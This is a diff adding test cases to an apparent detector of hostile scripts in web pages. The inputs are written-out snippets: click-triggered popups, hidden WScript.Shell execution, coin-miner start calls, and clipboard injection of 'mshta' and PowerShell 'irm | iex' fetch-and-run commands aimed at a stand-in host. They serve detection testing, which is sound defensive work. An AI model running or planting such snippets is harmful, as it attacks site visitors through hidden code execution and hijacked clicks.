@@ -59,6 +59,8 @@ def _idioms(script: str) -> set[str]:
         ("hides", "x.style.display='none'"),
         ("writes-link", "document.write('<a class=x href=//a.test>x</a>')"),
         ("writes-frame", "document.write('<iframe src=//a.test>')"),
+        ("opens-on-click", "document.onclick=function(){if(n)return;n=1;window.open('//a.test/')}"),
+        ("opens-on-click", r"document.onmousedown=function(){location.href='\x68ttps://a.test/'}"),
         ("loads-script", "eval(1); s=document.createElement('script'); s.src='//a.test/x.js'"),
     ],
 )
@@ -108,6 +110,54 @@ def test_every_idiom_has_a_name_and_a_reason_in_words() -> None:
     for name, row in IDIOMS.items():
         assert name == row.name == name.lower()
         assert len(row.reason.split()) >= 3
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "Set f = CreateObject(Disk).CreateTextFile(Path, True)",
+        'CreateObject("WScript.Shell").Run Path, 0',
+        r"#@~^Bg8AAA==\k~\n",
+        "var m = new Coin.Anonymous('Qx81kLw93hVb2LmZ', {throttle: 0.2}); m.start();",
+        "Lib.start({throttleMiner: 40}); location;",
+        "document.onclick=function(){navigator.clipboard.writeText('mshta https://a.test/')}",
+    ],
+)
+def test_what_only_attacks_on_readers_need_is_recognised(script: str) -> None:
+    rows = rows_of(f"<script>{script}</script>", LOUD)
+    assert scripts.attacks(rows).tolist() == [1.0]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "var u = new auth.Anonymous('reader'); location.hash = u.name;",
+        "navigator.clipboard.writeText('powershell -c \"irm https://a.test/i.ps1 | iex\"')",
+        "button.onclick=function(){navigator.clipboard.writeText(code.innerText);location.hash='#'}",
+        "document.addEventListener('click', close); function share(){window.open('//a.test/?u=1')}",
+    ],
+)
+def test_what_honest_scripts_do_with_the_same_means_is_no_attack(script: str) -> None:
+    rows = rows_of(f"<script>{script}</script>", LOUD)
+    assert scripts.attacks(rows).tolist() == [0.0]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "document.onclick=function(){location.href='/about'}",
+        "document.addEventListener('click', close); function share(){window.open('//a.test/?u=1')}",
+        "document.onclick=function(e){if(e.target.id=='a')window.open('https://a.test/')}",
+    ],
+)
+def test_what_opens_when_something_is_clicked_opens_not_on_any_click(script: str) -> None:
+    assert "opens-on-click" not in _idioms(script)
+
+
+def test_what_a_long_script_does_behind_its_data_is_recognised() -> None:
+    data = "4D5A" * 5000
+    script = f'Data = "{data}"\nSet s = CreateObject("WScript.Shell")\ns.Run Path, 0'
+    assert scripts.attacks(rows_of(f"<script>{script}</script>", LOUD)).tolist() == [1.0]
 
 
 def test_idioms_are_those_of_scripts_and_not_of_texts() -> None:
